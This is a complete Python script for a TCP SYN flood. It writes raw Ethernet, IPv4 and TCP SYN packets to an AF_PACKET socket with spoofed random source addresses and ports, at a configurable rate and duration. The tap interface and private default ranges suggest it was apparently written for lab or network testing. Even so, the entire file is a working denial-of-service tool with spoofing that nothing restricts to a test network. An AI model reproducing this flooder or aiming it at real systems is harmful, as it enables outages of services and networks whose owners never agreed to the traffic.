#!/usr/bin/env python3
"""SYN flood through AF_PACKET on a tap: Ethernet + IPv4 + TCP SYNs to
DST:PORT from random spoofed sources (addresses in --src-net that nobody
owns, so no one answers the SYN-ACKs with RST) and random ports, at --rate
packets per second for --seconds. Prints what it sent."""
import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--ifname", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--port", type=int, default=7)
    ap.add_argument("--src-net", default="10.0.0.0/24")
    ap.add_argument("--exclude", action="append", default=[])
    ap.add_argument("--rate", type=int, default=20000)
    ap.add_argument("--seconds", type=float, default=10)
    a = ap.parse_args()

    net = ipaddress.ip_network(a.src_net)
    excl = {ipaddress.ip_address(x) for x in a.exclude}
    srcs = [h for h in net.hosts() if h not in excl]
    dst = socket.inet_aton(a.dst)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.ifname, 0))
    dmac = mac(a.dst_mac)
    rnd = random.Random(1)
    sent = 0
    t0 = time.monotonic()
    end = t0 + a.seconds
    batch = max(1, a.rate // 100)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        # Keep to the rate: send what is due, then sleep a little.
        due = int((now - t0) * a.rate) - sent
        if due <= 0:
            time.sleep(0.002)
            continue
        for _ in range(min(due, batch)):
            src = socket.inet_aton(str(srcs[rnd.randrange(len(srcs))]))
            sport = rnd.randrange(1024, 65536)
            seq = rnd.getrandbits(32)
            opts = struct.pack("!BBH", 2, 4, 1460)
            tcp = struct.pack("!HHIIBBHHH", sport, a.port, seq, 0, (5 + 1) << 4, 0x02, 64240, 0,
                              0) + opts
            pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rnd.getrandbits(16), 0, 64,
                             6, 0, src, dst)
            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
            eth = dmac + bytes([0x02, 0, 0, 0, 0xEE, rnd.randrange(1, 255)]) + b"\x08\x00"
            try:
                s.send(eth + ip + tcp)
                sent += 1
            except OSError:
                time.sleep(0.001)
    dt = time.monotonic() - t0
    print(f"synflood: {sent} SYNs in {dt:.1f} s ({sent / dt:.0f}/s) to {a.dst}:{a.port}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
